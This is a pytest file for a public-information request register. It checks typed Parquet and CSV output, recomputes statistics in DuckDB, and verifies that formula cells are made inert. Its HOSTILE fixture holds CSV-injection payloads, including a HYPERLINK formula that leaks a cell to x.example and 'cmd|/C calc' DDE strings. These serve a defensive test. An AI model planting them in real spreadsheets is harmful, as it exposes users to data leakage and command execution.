"""The register book (spec section 8): one home, typed Parquet, ISO CSV, inert cells.

The book of a real `ppid run --no-pdf` over the bundled example inbox (plus one request
whose text is written to be run by a spreadsheet) is read back with pandas, pyarrow and
DuckDB; `ppid stats`' main figures are computed again as SQL over the Parquet book.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline import book, stats
from pipeline.cli import main
from pipeline.config import load_config
from pipeline.errors import RegisterError
from pipeline.schema import BOOK_COLUMNS

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).resolve().parent / "fixtures"
RUN_DATE = "2026-11-27"

# Text a spreadsheet would run (OWASP "CSV Injection"), one for each trigger character.
HOSTILE = {
    "name": '=HYPERLINK("http://x.example/?leak="&A1,"klik")',
    "organization": "@SUM(1+1)*cmd|' /C calc'!A0",
    "purpose": "+1+cmd|' /C calc'!A0",
    "items": ["-2+3+cmd|' /C calc'!A0 Daftar pemilih tetap", "\tTab=1+1 Jadwal tahapan Pemilu 2029"],
}


def hostile_request() -> dict:
    data = yaml.safe_load((ROOT / "examples/inbox/2026-11-04-yasinta-wangge.yaml").read_text())
    data["requester"]["name"] = HOSTILE["name"]
    data["requester"]["kind"] = "ngo"
    data["requester"]["organization"] = HOSTILE["organization"]
    data["requester"]["phone"] = "081298760000"
    data["purpose"] = HOSTILE["purpose"]
    data["information"] = HOSTILE["items"]
    return data


@pytest.fixture(scope="module")
def run_records(tmp_path_factory) -> Path:
    """records/ of `ppid run --no-pdf` over examples/inbox and one hostile request."""
    tmp = tmp_path_factory.mktemp("run")
    inbox = tmp / "inbox"
    shutil.copytree(ROOT / "examples" / "inbox", inbox)
    (inbox / "2026-11-20-hostile.yaml").write_text(
        yaml.safe_dump(hostile_request(), allow_unicode=True, sort_keys=False), encoding="utf-8")
    args = ["run", str(inbox), "--no-pdf", "--config", str(ROOT / "config"),
            "--templates", str(ROOT / "templates"), "--records", str(tmp / "records"),
            "--out", str(tmp / "out"), "--date", RUN_DATE]
    result = CliRunner().invoke(main, args, catch_exceptions=False)
    assert result.exit_code in (0, 1), result.output
    return tmp / "records"


@pytest.fixture(scope="module")
def fixture_records(tmp_path_factory) -> Path:
    """The hand-worked register of test_stats.py, written by pipeline.book."""
    folder = tmp_path_factory.mktemp("small")
    book.write_frame(folder, book.read_book(FIXTURES / "records_small"))
    return folder


# --- types -----------------------------------------------------------------------------------

EXPECTED_TYPES = {
    "received_at": pa.timestamp("us", tz="+08:00"), "completed_at": pa.timestamp("us", tz="+08:00"),
    "due_date": pa.date32(), "answered_at": pa.date32(), "day_one": pa.date32(),
    "withdrawn_at": pa.date32(), "dispute_filed": pa.date32(), "dispute_decided": pa.date32(),
    "working_days": pa.int64(), "year": pa.int64(), "items": pa.int64(),
    "on_time": pa.bool_(), "extended": pa.bool_(), "was_incomplete": pa.bool_(),
    "service": pa.dictionary(pa.int32(), pa.string()), "status": pa.dictionary(pa.int32(), pa.string()),
    "register_no": pa.string(), "subject": pa.string(), "grounds": pa.string(),
}


def test_every_column_has_its_parquet_type(run_records):
    schema = pq.read_schema(run_records / "register.parquet")
    assert schema.names == list(BOOK_COLUMNS)
    for field in schema:
        assert field.type == book.ARROW_TYPES[BOOK_COLUMNS[field.name].kind], field.name
    for name, expected in EXPECTED_TYPES.items():
        assert schema.field(name).type == expected, name
    # Each column says what it holds, for whoever opens the file without this code.
    assert schema.field("due_date").metadata[b"description"].decode() == BOOK_COLUMNS["due_date"].meaning
    enums = {n for n, c in BOOK_COLUMNS.items() if c.kind == "enum"}
    assert {"service", "channel", "requester_kind", "status", "outcome", "form", "delivery",
            "objection_result", "dispute_result"} == enums


def test_times_carry_the_wita_offset_and_keep_the_wall_clock(run_records):
    table = pq.read_table(run_records / "register.parquet", columns=["register_no", "received_at"])
    rows = dict(zip(table["register_no"].to_pylist(), table["received_at"].to_pylist()))
    first = rows["0001/PPID/2026"]  # examples/inbox: received 2026-11-04 08:47 WITA
    assert first.utcoffset() == dt.timedelta(hours=8)
    assert first.replace(tzinfo=None) == dt.datetime(2026, 11, 4, 8, 47)
    assert first.astimezone(dt.timezone.utc).hour == 0


def test_csv_keeps_iso_text(run_records):
    with (run_records / "register.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(BOOK_COLUMNS)
    assert rows[0]["received_at"] == "2026-11-04 08:47"
    for row in rows:
        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row["received_at"])
        for name in ("due_date", "answered_at", "day_one"):
            assert row[name] == "" or re.fullmatch(r"\d{4}-\d\d-\d\d", row[name]), name
        assert row["on_time"] in ("", "True", "False")
        assert row["working_days"] == "" or row["working_days"].isdigit()


def test_parquet_and_csv_read_back_the_same_typed_book(run_records, tmp_path):
    typed = book.read_book(run_records)
    for name, column in BOOK_COLUMNS.items():
        assert book.has_dtype(typed[name], column.kind), name
    shutil.copy(run_records / "register.csv", tmp_path / "register.csv")
    pd.testing.assert_frame_equal(book.read_book(tmp_path), typed)


def test_pandas_reads_the_types_without_help(run_records):
    frame = pd.read_parquet(run_records / "register.parquet")
    assert str(frame["received_at"].dtype) == "datetime64[us, UTC+08:00]"
    assert str(frame["due_date"].dtype) == "date32[day][pyarrow]"
    assert str(frame["working_days"].dtype) == "Int64"
    assert str(frame["on_time"].dtype) == "boolean"
    assert str(frame["service"].dtype) == "category"


def test_personal_data_stays_out_of_the_book(run_records):
    secrets = set()
    for path in (ROOT / "examples" / "inbox").glob("*.yaml"):
        req = (yaml.safe_load(path.read_text(encoding="utf-8")) or {}).get("requester") or {}
        secrets |= {str(v) for v in (req.get("phone"), req.get("email"),
                                     (req.get("identity") or {}).get("number")) if v}
    secrets.add("081298760000")
    assert len(secrets) > 20
    csv_text = (run_records / "register.csv").read_text(encoding="utf-8")
    parquet_text = pd.read_parquet(run_records / "register.parquet").astype(str).to_csv()
    for value in secrets:
        assert value not in csv_text and value not in parquet_text, value


# --- the same figures from pandas, pyarrow and DuckDB ------------------------------------------

FIGURES_SQL = """
WITH b AS (
  SELECT *, timezone('Asia/Makassar', received_at)::DATE AS received,
         timezone('Asia/Makassar', completed_at)::DATE AS completed
  FROM read_parquet($path)
), p AS (
  SELECT *,
    CASE WHEN (withdrawn_at IS NOT NULL AND withdrawn_at <= $as_of)
              OR (withdrawn_at IS NULL AND status = 'withdrawn') THEN 'withdrawn'
         WHEN answered_at <= $as_of THEN 'decided'
         WHEN (coalesce(was_incomplete, false) OR status = 'incomplete')
              AND NOT coalesce(completed <= $as_of, false) THEN 'incomplete'
         ELSE 'pending' END AS state
  FROM b WHERE received BETWEEN $start AND least($end, $as_of)
), info AS (
  SELECT *, coalesce(on_time, answered_at <= due_date) AS ok
  FROM p WHERE service = 'information' AND state = 'decided'
)
SELECT
  (SELECT count(*) FROM p) AS received,
  (SELECT count(*) FROM p WHERE state = 'decided') AS decided,
  (SELECT count(*) FROM p WHERE state = 'pending') AS pending,
  (SELECT count(*) FROM p WHERE state = 'incomplete') AS incomplete,
  (SELECT count(*) FROM p WHERE state = 'withdrawn') AS withdrawn,
  (SELECT count(*) FROM info) AS info_decided,
  (SELECT count(*) FROM info WHERE ok) AS on_time,
  (SELECT count(*) FROM info WHERE NOT ok) AS late,
  (SELECT count(*) FROM info WHERE extended) AS extended,
  (SELECT median(working_days) FROM info) AS median_days,
  (SELECT round(avg(working_days), 2) FROM info) AS mean_days,
  (SELECT count(*) FROM info WHERE working_days <= 0) AS same_day,
  (SELECT count(*) FROM info WHERE working_days BETWEEN 1 AND $half) AS first_half,
  (SELECT count(*) FROM info WHERE working_days BETWEEN $half + 1 AND $notice) AS second_half,
  (SELECT count(*) FROM info WHERE working_days BETWEEN $notice + 1 AND $extended) AS in_extension,
  (SELECT count(*) FROM info WHERE working_days > $extended) AS beyond
"""
BY_SQL = """
SELECT {col} AS k, count(*) AS n FROM read_parquet($path)
WHERE timezone('Asia/Makassar', received_at)::DATE BETWEEN $start AND least($end, $as_of)
GROUP BY {col}
"""


def sql_figures(path: Path, year: int, as_of: dt.date, deadlines: dict) -> dict:
    con = duckdb.connect()
    notice, extended = deadlines["notice"], deadlines["notice"] + deadlines["extension"]
    params = {"path": str(path), "start": dt.date(year, 1, 1), "end": dt.date(year, 12, 31),
              "as_of": as_of, "half": notice // 2, "notice": notice, "extended": extended}
    cur = con.execute(FIGURES_SQL, params)
    row = dict(zip([d[0] for d in cur.description], cur.fetchone()))
    by = {}
    for col in ("service", "channel", "requester_kind"):
        got = con.execute(BY_SQL.format(col=col),
                          {k: params[k] for k in ("path", "start", "end", "as_of")}).fetchall()
        by[col] = {k: n for k, n in got if k is not None}
    return {**row, "by": by}


def check_same_figures(result: dict, sql: dict, deadlines: dict) -> None:
    req, tim = result["requests"], result["timeliness"]
    assert (req["received"], req["decided"], req["pending"], req["incomplete"], req["withdrawn"]) \
        == (sql["received"], sql["decided"], sql["pending"], sql["incomplete"], sql["withdrawn"])
    for col, key in (("service", "by_service"), ("channel", "by_channel"),
                     ("requester_kind", "by_requester_kind")):
        assert {k: v for k, v in req[key].items() if v} == sql["by"][col], col
    assert (tim["decided"], tim["on_time"], tim["late"], tim["extended"]) == \
        (sql["info_decided"], sql["on_time"], sql["late"], sql["extended"])
    if sql["info_decided"]:
        assert tim["working_days"]["median"] == round(float(sql["median_days"]), 2)
        assert tim["working_days"]["mean"] == float(sql["mean_days"])
        assert tim["on_time_pct"] == round(100.0 * sql["on_time"] / sql["info_decided"], 1)
    assert list(tim["bands"].values()) == [sql["same_day"], sql["first_half"], sql["second_half"],
                                           sql["in_extension"], sql["beyond"]]


def ppid_stats_json(records: Path, year: int, as_of: dt.date, config: Path = ROOT / "config") -> dict:
    res = CliRunner().invoke(main, ["stats", "--year", str(year), "--format", "json",
                                    "--config", str(config), "--records", str(records),
                                    "--date", as_of.isoformat()])
    assert res.exit_code == 0, res.output
    return json.loads(res.output)


@pytest.mark.parametrize("which, year, as_of", [
    ("fixture", 2026, dt.date(2027, 1, 15)),
    ("fixture", 2026, dt.date(2026, 6, 30)),
    ("fixture", 2025, dt.date(2027, 1, 15)),
    ("run", 2026, dt.date(2026, 11, 27)),
])
def test_duckdb_sql_gives_the_figures_of_ppid_stats(which, year, as_of, fixture_records, run_records):
    records = fixture_records if which == "fixture" else run_records
    deadlines = load_config(ROOT / "config").deadlines
    result = ppid_stats_json(records, year, as_of)
    check_same_figures(result, sql_figures(records / "register.parquet", year, as_of, deadlines),
                       deadlines)
    assert result["requests"]["received"] > 0


def test_duckdb_bands_follow_a_changed_notice(fixture_records, tmp_path):
    folder = tmp_path / "config"
    shutil.copytree(ROOT / "config", folder)
    office = yaml.safe_load((folder / "office.yaml").read_text(encoding="utf-8"))
    office["deadlines"].update(notice=6, extension=4)
    (folder / "office.yaml").write_text(yaml.safe_dump(office, allow_unicode=True), encoding="utf-8")
    as_of = dt.date(2027, 1, 15)
    result = ppid_stats_json(fixture_records, 2026, as_of, config=folder)
    assert list(result["timeliness"]["bands"]) == ["same_day", "1_3", "4_6", "7_10", "over_10"]
    check_same_figures(result, sql_figures(fixture_records / "register.parquet", 2026, as_of,
                                           {"notice": 6, "extension": 4}), {})


def test_pyarrow_and_pandas_agree_with_duckdb_on_the_rows(fixture_records):
    path = fixture_records / "register.parquet"
    con = duckdb.connect()
    got = con.execute("SELECT register_no, timezone('Asia/Makassar', received_at), due_date, "
                      "working_days, on_time, service FROM read_parquet(?) ORDER BY register_no",
                      [str(path)]).fetchall()
    table = pq.read_table(path).sort_by("register_no")
    frame = pd.read_parquet(path).sort_values("register_no")
    assert [r[0] for r in got] == table["register_no"].to_pylist() == frame["register_no"].tolist()
    assert [r[1] for r in got] == [t.replace(tzinfo=None) for t in table["received_at"].to_pylist()]
    assert [r[2] for r in got] == table["due_date"].to_pylist()
    assert [r[3] for r in got] == table["working_days"].to_pylist() == \
        [None if pd.isna(x) else int(x) for x in frame["working_days"]]
    assert [r[5] for r in got] == frame["service"].astype(str).tolist()


# --- formula injection (issue 12 item 8) ---------------------------------------------------------


def test_register_csv_makes_formula_cells_inert(run_records):
    with (run_records / "register.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(book.FORMULA_STARTS)]
    hostile = next(r for r in rows if "HYPERLINK" in ",".join(r))
    assert "'" + HOSTILE["name"] in hostile
    assert "'" + HOSTILE["organization"] in hostile
    assert "'" + HOSTILE["purpose"] in hostile
    raw = (run_records / "register.csv").read_text(encoding="utf-8")
    assert all(line.startswith('"') for line in raw.splitlines())  # every cell quoted
    # Read back through the book, the values are what the requester wrote.
    row = book.read_book(run_records).set_index("register_no")
    hit = row[row["requester_name"] == HOSTILE["name"]]
    assert len(hit) == 1
    assert hit["requester_organization"].iloc[0] == HOSTILE["organization"]
    assert hit["purpose"].iloc[0] == HOSTILE["purpose"]
    assert hit["subject"].iloc[0].startswith(HOSTILE["items"][0])


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("\nx", "'\nx"), ("'=1", "''=1"), ("'plain", "'plain"), ("a=1", "a=1"),
    ("", ""), (None, None),
])
def test_inert_and_back(value, written):
    assert book.inert(value) == written
    assert book.uninert(written) == value


def soffice_to_xlsx(path: Path, out: Path) -> Path:
    """LibreOffice Calc opens the CSV (UTF-8, comma, double quotes) and saves it as xlsx."""
    profile = Path(tempfile.mkdtemp(prefix="lo-book-"))
    try:
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{profile}", "--headless",
             "--infilter=Text - txt - csv (StarCalc):44,34,76,1", "--convert-to", "xlsx",
             "--outdir", str(out), str(path)],
            check=True, capture_output=True, timeout=180,
            env={**os.environ, "HOME": str(profile)})
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    target = out / (path.stem + ".xlsx")
    assert target.exists(), "LibreOffice did not convert the CSV (is libreoffice-calc installed?)"
    return target


def formula_cells(xlsx: Path) -> list[str]:
    wb = openpyxl.load_workbook(xlsx)
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


@pytest.mark.slow
def test_libreoffice_runs_no_formula_of_register_csv(run_records, tmp_path):
    # The control: an unescaped cell is a formula once LibreOffice opens it.
    control = tmp_path / "control.csv"
    control.write_text('"a","b"\n"=1+1","x"\n', encoding="utf-8")
    assert formula_cells(soffice_to_xlsx(control, tmp_path)) == ["control!A2==1+1"]
    xlsx = soffice_to_xlsx(run_records / "register.csv", tmp_path)
    assert formula_cells(xlsx) == []
    ws = openpyxl.load_workbook(xlsx).active
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "'" + HOSTILE["name"] in values  # shown as the text it is


# --- errors and round trips ---------------------------------------------------------------------


@pytest.mark.parametrize("column, value, message", [
    ("working_days", "empat", "line 3, column working_days: 'empat' is not a whole number"),
    ("on_time", "mungkin", "line 3, column on_time: 'mungkin' is not true or false"),
    ("received_at", "kemarin", "line 3, column received_at: 'kemarin' is not a time"),
    ("due_date", "2026-02-30", "line 3, column due_date: '2026-02-30' is not a date"),
    ("received_at", "2026-02-30 09:00", "line 3, column received_at: '2026-02-30 09:00' is not a time"),
])
def test_a_bad_cell_is_a_register_error_naming_file_column_and_row(tmp_path, column, value, message):
    frame = book.read_book(FIXTURES / "records_small").pipe(book.to_text)
    frame.loc[1, column] = value
    frame.to_csv(tmp_path / "register.csv", index=False)
    with pytest.raises(RegisterError, match=re.escape(f"{tmp_path / 'register.csv'}: {message}")) as err:
        book.read_book(tmp_path)
    assert "\n" not in str(err.value) and "ppid run" in str(err.value)


def test_an_unreadable_parquet_book_is_a_register_error(tmp_path):
    (tmp_path / "register.parquet").write_bytes(b"PAR1 not really")
    with pytest.raises(RegisterError, match="register.parquet: cannot read the register book"):
        book.read_book(tmp_path)


TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
               min_size=1, max_size=30)
DAYS = st.dates(min_value=dt.date(2020, 1, 1), max_value=dt.date(2035, 12, 31))
TIMES = st.datetimes(min_value=dt.datetime(2020, 1, 1), max_value=dt.datetime(2035, 12, 31)) \
    .map(lambda t: t.replace(second=0, microsecond=0))


@st.composite
def rows(draw):
    row = {}
    for name, column in BOOK_COLUMNS.items():
        value = {
            "text": st.one_of(st.none(), TEXT),
            "enum": st.one_of(st.none(), st.sampled_from(["information", "letter", "=x", "-"])),
            "timestamp": st.one_of(st.none(), TIMES.map(lambda t: t.strftime("%Y-%m-%d %H:%M"))),
            "date": st.one_of(st.none(), DAYS.map(dt.date.isoformat)),
            "int": st.one_of(st.none(), st.integers(0, 10_000)),
            "bool": st.one_of(st.none(), st.booleans()),
        }[column.kind]
        row[name] = draw(value)
    return row


@pytest.mark.slow  # thousands of generated cases; the fast loop has smaller ones
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(rows(), min_size=1, max_size=8))
def test_write_then_read_gives_the_rows_back_from_parquet_and_csv(data):
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        book.write_book(folder, data)
        from_parquet = book.read_book(folder)
        (folder / "register.parquet").unlink()
        from_csv = book.read_book(folder)
    pd.testing.assert_frame_equal(from_parquet, from_csv)
    back = book.to_text(from_parquet)
    for i, row in enumerate(data):
        for name, value in row.items():
            got = back.loc[i, name]
            got = None if pd.isna(got) else got
            kind = BOOK_COLUMNS[name].kind
            if kind == "bool":
                expected = None if value is None else str(value)
            elif kind == "int":
                expected = None if value is None else str(value)
            else:
                expected = value
            assert got == expected, (name, value, got)


@pytest.mark.slow  # thousands of generated cells; the fast loop has tests/test_office_records.py's check
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(rows(), min_size=0, max_size=6),
       st.sampled_from([None, " padded ", "", "2026-02-30", 7, "2026-01-05T09:00"]), st.sampled_from(list(BOOK_COLUMNS)))
def test_rows_straight_to_arrow_write_what_the_checked_frame_writes(data, odd, column):
    """write_book takes plain rows straight to Arrow (no pandas); the same rows through
    frame/coerce_book/write_frame give the same CSV and Parquet bytes. A value that is not
    plainly its column's sends the rows the checked way, which gives the same bytes or the
    same RegisterError."""
    if data:
        data[0][column] = odd
    with tempfile.TemporaryDirectory() as tmp:
        straight, checked = Path(tmp, "straight"), Path(tmp, "checked")
        straight.mkdir(), checked.mkdir()
        outcome = []
        for folder, write in ((straight, book.write_book),
                              (checked, lambda f, r: book.write_frame(f, book.coerce_book(
                                  pd.DataFrame(r, columns=list(BOOK_COLUMNS), dtype=object))))):
            try:
                write(folder, data)
                outcome.append([(folder / n).read_bytes() for n in (book.CSV_NAME, book.PARQUET_NAME)])
            except RegisterError as exc:
                outcome.append(str(exc))
    assert outcome[0] == outcome[1]
